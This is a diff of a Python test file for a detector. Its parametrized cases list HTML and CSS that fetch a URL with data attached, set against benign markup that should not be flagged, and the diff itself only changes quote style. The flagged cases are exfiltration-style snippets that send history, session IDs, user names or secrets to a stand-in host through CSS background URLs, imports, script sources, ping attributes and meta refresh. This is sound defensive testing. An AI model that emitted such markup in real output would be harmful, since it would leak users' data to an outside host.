@@ -1355,7 +1355,7 @@ def test_ordinary_codes_and_double_encodings_are_not_flagged(text: str) -> None:
     [
         "<p style=\"background:url('https://x.example.net/a.gif?h={history}')\">hi</p>",
         "<style>@import url(https://x.example.net/s.css?session=abc123);</style>",
-        "<style>p{background:url(\"//x.example.net/b.png?d=NOTES\")}</style>",
+        '<style>p{background:url("//x.example.net/b.png?d=NOTES")}</style>',
         '<script src="https://x.example.net/x.js?u=alice&c=chat"></script>',
         '<a href="/home" ping="https://x.example.net/t?who=alice">home</a>',
         '<meta http-equiv="refresh" content="5; url=https://x.example.net/?d=secret">',
@@ -1374,7 +1374,7 @@ def test_html_and_css_that_fetch_a_url_with_data_are_flagged(text: str) -> None:
         '<script src="https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js"></script>',
         '<a href="https://example.com/docs?page=2">docs</a>',
         '<meta http-equiv="refresh" content="30">',
-        "CSS: background: url(data:image/png;base64,iVBORw0KGgo=); url(\"bg.png\")",
+        'CSS: background: url(data:image/png;base64,iVBORw0KGgo=); url("bg.png")',
         '<svg><use href="#icon-star"/></svg> <style>@import url("theme.css");</style>',
         "The ping attribute of <a> sends a POST when the link is followed.",
     ],
